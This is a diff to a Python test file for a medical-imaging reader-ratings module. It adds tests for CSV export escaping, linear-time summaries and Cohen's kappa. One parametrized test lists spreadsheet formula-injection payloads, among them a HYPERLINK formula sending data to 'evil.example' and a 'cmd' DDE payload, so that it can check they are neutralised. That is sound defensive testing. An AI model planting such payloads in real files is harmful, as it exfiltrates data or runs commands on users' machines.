@@ -4,10 +4,14 @@ from __future__ import annotations
 
 import csv
 import io
+import random
+import time
 
+import numpy as np
 import pytest
+from sklearn.metrics import cohen_kappa_score
 
-from medmodal.serving.ratings import Rating, RatingStore, summarise_ratings
+from medmodal.serving.ratings import ERROR_TYPES, Rating, RatingStore, kappa_from_counts, summarise_ratings
 
 
 def kappa_table_ratings(store: RatingStore) -> None:
@@ -32,8 +36,7 @@ def test_kappa_matches_the_hand_computed_value(tmp_path):
     assert pair["shared_cases"] == 50
     assert pair["observed_agreement"] == pytest.approx(0.7)
     assert pair["kappa"] == pytest.approx(0.4)
-    carol = next(p for p in summary["agreement"] if p["readers"] == ["alice", "carol"])
-    assert carol["shared_cases"] == 0 and carol["kappa"] is None
+    assert [p["readers"] for p in summary["agreement"]] == [["alice", "bob"]]  # carol shares no case
     assert summary["n_ratings"] == 101
     assert summary["acceptance_rate"] == pytest.approx((25 + 30 + 1) / 101)
     assert summary["error_counts"]["missed_finding"] == 20  # bob's "no" answers
@@ -98,3 +101,95 @@ def test_ratings_cli(tmp_path, capsys):
     assert main(["ratings-export", str(db), "--out", str(tmp_path / "r.csv")]) == 0
     assert len((tmp_path / "r.csv").read_text().splitlines()) == 101
     assert main(["ratings-summary", str(tmp_path / "missing.db")]) == 2
+
+
+# ------------------------------------------------------------- CSV injection
+@pytest.mark.parametrize("comment", [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+    "\t=1+1", "\r=1+1", "   =1+1", "\uff1d1+1",
+])
+def test_csv_export_neutralises_formulas(tmp_path, comment):
+    store = RatingStore(tmp_path / "r.db")
+    store.add(Rating(study_id="=s1", reader="@alice", acceptable=False, comment=comment))
+    store.add(Rating(study_id="s2", reader="bob", acceptable=True, comment="plain - text = fine"))
+    rows = list(csv.DictReader(io.StringIO(store.export_csv())))
+    assert rows[0]["comment"] == "'" + comment  # shown as text by Excel / LibreOffice / Sheets
+    assert rows[0]["study_id"] == "'=s1" and rows[0]["reader"] == "'@alice"
+    assert rows[1]["comment"] == "plain - text = fine" and rows[1]["study_id"] == "s2"  # untouched
+    assert all(line.startswith('"') for line in store.export_csv().split("\r\n")[:-1])  # every cell quoted
+
+
+# ------------------------------------------------------------ summary at scale
+def crossed_records(n_readers: int, per_reader: int = 30, per_case: int = 3, seed: int = 0) -> list[dict]:
+    """Each case read by ``per_case`` neighbouring readers, each reader reads ``per_reader`` cases."""
+    rng = random.Random(seed)
+    records = []
+    for case in range(n_readers * per_reader // per_case):
+        for k in range(per_case):
+            records.append({"study_id": f"s{case}", "reader": f"r{(case * per_case + k) % n_readers:04d}",
+                            "model": "m", "acceptable": rng.random() < 0.6, **dict.fromkeys(ERROR_TYPES, False)})
+    return records
+
+
+class CountingList(list):
+    """A list that counts how often it is iterated."""
+
+    iterations = 0
+
+    def __iter__(self):
+        self.iterations += 1
+        return super().__iter__()
+
+
+def test_summary_reads_the_records_once_whatever_the_number_of_readers():
+    # The quadratic version scanned every record once per reader and twice per reader pair.
+    counts = {}
+    for n_readers in (20, 80):
+        records = CountingList(crossed_records(n_readers))
+        summary = summarise_ratings(records)
+        assert len(summary["readers"]) == n_readers
+        counts[n_readers] = records.iterations
+    assert counts == {20: 1, 80: 1}
+
+
+def test_summary_time_grows_about_linearly_with_readers():
+    def cpu_seconds(n_readers: int) -> float:
+        records = crossed_records(n_readers)
+        best = float("inf")
+        for _ in range(3):
+            started = time.process_time()
+            summarise_ratings(records)
+            best = min(best, time.process_time() - started)
+        return best
+
+    cpu_seconds(20)  # warm-up (imports)
+    small, large = cpu_seconds(200), cpu_seconds(800)  # 4x readers and ratings
+    # Linear: ~4x; the old per-pair scan was cubic (~64x). The bound leaves room for a loaded machine.
+    assert large / max(small, 1e-3) < 12, (small, large)
+
+
+def test_pairwise_kappa_matches_sklearn_on_random_answers():
+    rng = np.random.default_rng(0)
+    records = []
+    for reader in range(6):
+        bias = rng.uniform(0.2, 0.8)
+        for case in rng.choice(40, size=int(rng.integers(5, 40)), replace=False):
+            records.append({"study_id": f"s{case}", "reader": f"r{reader}", "model": "",
+                            "acceptable": bool(rng.random() < bias), **dict.fromkeys(ERROR_TYPES, False)})
+    answers = {(r["reader"], r["study_id"]): r["acceptable"] for r in records}
+    agreement = summarise_ratings(records)["agreement"]
+    assert len(agreement) == 15  # every pair shares cases here
+    for pair in agreement:
+        a, b = pair["readers"]
+        shared = sorted({s for (r, s) in answers if r == a} & {s for (r, s) in answers if r == b})
+        ya, yb = [answers[a, s] for s in shared], [answers[b, s] for s in shared]
+        assert pair["shared_cases"] == len(shared)
+        assert pair["observed_agreement"] == pytest.approx(np.mean(np.equal(ya, yb)))
+        assert pair["kappa"] == pytest.approx(cohen_kappa_score(ya, yb), abs=1e-12)
+
+
+def test_kappa_from_counts_edge_cases():
+    assert kappa_from_counts(1, 1, 1, 1) is None  # one shared case
+    assert kappa_from_counts(5, 5, 5, 5) is None and kappa_from_counts(5, 5, 0, 0) is None  # one answer only
+    assert kappa_from_counts(4, 0, 4, 0) == pytest.approx(cohen_kappa_score([1] * 4, [0] * 4))  # 0.0
+    assert kappa_from_counts(4, 4, 2, 2) == pytest.approx(1.0)
